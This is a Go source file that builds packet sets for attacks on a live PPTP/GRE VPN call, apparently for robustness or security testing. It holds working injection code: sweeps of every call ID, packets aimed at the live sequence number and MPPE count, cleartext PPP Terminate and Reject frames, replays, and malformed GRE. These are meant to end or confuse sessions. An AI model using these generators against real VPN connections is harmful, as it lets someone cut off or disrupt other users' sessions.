package main

import (
	"encoding/binary"
	"math/rand/v2"
)

// attacks make the packets of an attack from what was learnt of the call.
var attacks = map[string]func(live, *rand.Rand) [][]byte{
	"sweep":  sweep,
	"aimed":  aimed,
	"clear":  clearControl,
	"replay": replay,
	"broken": broken,
	"jump":   jump,
}

// distances are sequence numbers and so on that are far from the live ones.
var distances = []uint32{20000, 1 << 16, 1 << 20, 1 << 30, 1<<31 - 1, 1 << 31, 1<<31 + 1,
	^uint32(0) - 20000, ^uint32(0) - 1<<20}

// sweep is blind: one packet for every call ID there is.
func sweep(_ live, r *rand.Rand) [][]byte {
	packets := make([][]byte, 0, 1<<16)
	for id := range 1 << 16 {
		packets = append(packets, gre(uint16(id), r.Uint32(), mppe(uint16(r.Uint32()), noise(r, 40))))
	}
	return packets
}

// aimed is at the live call, around the live sequence number and coherency
// count and at every count there is.
func aimed(l live, r *rand.Rand) [][]byte {
	var packets [][]byte
	for d := -64; d < 512; d++ {
		seq, count := l.seq+uint32(d), l.count+uint16(d)
		packets = append(packets,
			gre(l.callID, seq, mppe(count, noise(r, 20+r.IntN(1300)))),
			gre(l.callID, seq, mppe(count+2048, noise(r, 40))))
	}
	for count := range 1 << 12 {
		packets = append(packets, gre(l.callID, l.seq+1, mppe(uint16(count), noise(r, 40))))
	}
	for _, d := range distances {
		for count := range 64 {
			packets = append(packets, gre(l.callID, l.seq+d, mppe(l.count+uint16(count), noise(r, 40))))
		}
	}
	for size := range 4 { // too short to hold anything
		packets = append(packets, gre(l.callID, l.seq+1, mppe(l.count+1, nil)[:size+3]))
	}
	return packets
}

// jump is a handful of encrypted-looking packets far ahead: enough to end a
// call with a peer that believes sequence numbers.
func jump(l live, r *rand.Rand) [][]byte {
	var packets [][]byte
	for i := range 50 {
		packets = append(packets, gre(l.callID, l.seq+1<<30+uint32(i), mppe(l.count+1000+uint16(i), noise(r, 40))))
	}
	return packets
}

// clearControl is control frames in clear whose sequence numbers are far from
// the live one: everything that would end, restart or reset a layer.
func clearControl(l live, r *rand.Rand) [][]byte {
	const lcp, ccp, ipcp, chap, unknown = 0xc021, 0x80fd, 0x8021, 0xc223, 0x8281
	frames := [][]byte{
		control(lcp, 5, 77, nil),                                  // Terminate-Request
		control(lcp, 6, 1, nil),                                   // Terminate-Ack
		control(lcp, 1, 78, []byte{1, 4, 0x05, 0x78}),             // Configure-Request, MRU 1400
		control(lcp, 8, 79, []byte{0x80, 0xfd, 1, 1, 0, 4}),       // Protocol-Reject of CCP
		control(lcp, 8, 80, []byte{0xc0, 0x21, 1, 1, 0, 4}),       // Protocol-Reject of LCP
		control(lcp, 8, 81, []byte{0x80, 0x21, 1, 1, 0, 4}),       // Protocol-Reject of IPCP
		control(lcp, 7, 82, control(lcp, 1, 1, nil)[4:]),          // Code-Reject of Configure-Request
		control(ccp, 5, 83, nil),                                  // Terminate-Request
		control(ccp, 1, 84, []byte{18, 6, 0, 0, 0, 0}),            // Configure-Request without encryption
		control(ccp, 14, 85, nil),                                 // Reset-Request
		control(ipcp, 5, 86, nil),                                 // Terminate-Request
		control(ipcp, 1, 87, []byte{3, 6, 10, 99, 0, 77}),         // Configure-Request, another address
		control(chap, 4, 88, []byte("E=691 R=0 V=3 M=Go away")),   // Failure
		control(chap, 1, 89, append([]byte{16}, noise(r, 20)...)), // Challenge
		control(unknown, 1, 90, nil),
		append([]byte{0xff, 0x03, 0x00, 0x21}, noise(r, 40)...), // data in clear
	}
	var packets [][]byte
	for _, d := range distances {
		for _, f := range frames {
			packets = append(packets, gre(l.callID, l.seq+d, f))
			if f[2]&1 == 0 { // without address and control
				packets = append(packets, gre(l.callID, l.seq+d, f[2:]))
			}
		}
	}
	return packets
}

// replay is a real packet again, as it was and under other sequence numbers.
func replay(l live, _ *rand.Rand) [][]byte {
	var packets [][]byte
	for range 100 {
		packets = append(packets, l.packet)
	}
	for _, d := range append(distances, 1, 2, 100, 4096, 5000, 8192) {
		p := append([]byte(nil), l.packet...)
		binary.BigEndian.PutUint32(p[8:], l.seq+d)
		packets = append(packets, p)
	}
	return packets
}

// broken is GRE that no sender makes: wrong flags and versions, lengths that
// lie, cut headers, acknowledgments of what was never sent.
func broken(l live, r *rand.Rand) [][]byte {
	good := gre(l.callID, l.seq+1, mppe(l.count+1, noise(r, 40)))
	var packets [][]byte
	for n := range len(good) { // cut everywhere
		packets = append(packets, good[:n])
	}
	for bit := range 64 { // each bit of the first half of the header
		p := append([]byte(nil), good...)
		p[bit/8] ^= 1 << (bit % 8)
		packets = append(packets, p)
	}
	for _, length := range []uint16{0, 1, 3, 0xffff, uint16(len(good)), 1500} {
		p := append([]byte(nil), good...)
		binary.BigEndian.PutUint16(p[4:], length)
		packets = append(packets, p)
	}
	for range 200 { // acknowledgments alone
		p := gre(l.callID, r.Uint32(), nil)
		binary.BigEndian.PutUint16(p, greFlags&^0x1000|greAck)
		packets = append(packets, p)
	}
	for range 500 {
		packets = append(packets, noise(r, 1+r.IntN(200)))
	}
	return packets
}

func noise(r *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}
